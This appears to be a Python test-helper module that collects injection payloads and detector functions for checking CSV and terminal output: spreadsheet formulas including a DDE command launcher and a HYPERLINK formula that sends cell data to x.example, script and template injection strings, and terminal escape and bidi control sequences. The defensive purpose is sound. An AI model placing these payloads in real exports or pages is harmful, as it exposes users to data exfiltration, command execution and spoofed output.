"""Text that wants to be more than text: formulas, markup, orders to a terminal; and what tells whether it got there."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁺", "﹣", "﹫")
"""What a formula begins with, also full-width, small and raised."""

PASSED_OVER = (
    "\t",
    "\r",
    "\n",
    " ",
    "\u00a0",
    "\u3000",
    "\x00",
    "\x1b",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\u202a",
    "\u0301",
)
"""What some program may pass over before a formula."""

FORMULAS = (
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{first}=1+1" for first in PASSED_OVER),
    "=\u03381+1",  # composed it is ≠
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"go")',
    '"=1+1',
    ";=1+1;",
    ';"=1+1',
    "x;\u200b ＝1+1;",
    "x\n=1+1",
    "x\r\n=1+1\r\n",
    "x\t=1+1",
)
MARKUP = (
    "<script>fetch('//x.example')</script>",
    "<img src=x onerror=alert(1)>",
    "{{6007*7}}",
    "{% for x in [6007] %}{{x*7}}{% endfor %}",
    "{#",
    "${6007*7}",
    "[bold]x[/bold]",
    "[/x]",
    "[link=file:x]y[/link]",
    ":boom:",
)
ORDERS = (
    "\x1b[2J",
    "\x1b]8;;file:x\x1b\\y\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x9d8;;file:x\x9c",
    "x\rmatched",
    "x\b\b\b",
    "\x07",
    "\x7f",
    "\x85x",
    "\u2028x",
    "\u2029x",
    "\u202emoc.x",
    "\u2067x",
    "x\nmentors.csv, row 2, name: required",
)
BREAK_OUT = '","=1+1","'
"""A formula in cells of its own, unless quotes are doubled."""

PAYLOADS = (*FORMULAS, BREAK_OUT, *MARKUP, *ORDERS)

_TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def obeyed(text: str) -> list[str]:
    """The characters that a terminal would obey; of the controls only a line break is none."""
    return [one for one in text if one != "\n" and (_steers(one) or unicodedata.bidirectional(one) in _TURNING)]


def _steers(character: str) -> bool:
    return unicodedata.category(character) in {"Cc", "Cs", "Zl", "Zp"}


def active(cell: str) -> bool:
    """Whether some spreadsheet would run a cell: a sign comes before any ink, and it is no number."""
    ink = (one for one in cell if one != '"' and unicodedata.category(one)[0] in "LNPS")
    begins = unicodedata.normalize("NFKC", next(ink, "x"))[:1]
    return begins in set("=+-@") and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)


def lines(path: Path, separator: str = ",", *, quotes: bool = True) -> list[list[str]]:
    """A file's lines as a program splits them that knows another separator, or no quotes, as far as it can."""
    text = io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")
    quoting = csv.QUOTE_MINIMAL if quotes else csv.QUOTE_NONE
    return list(csv.reader(text, delimiter=separator, quoting=quoting, strict=separator == ","))
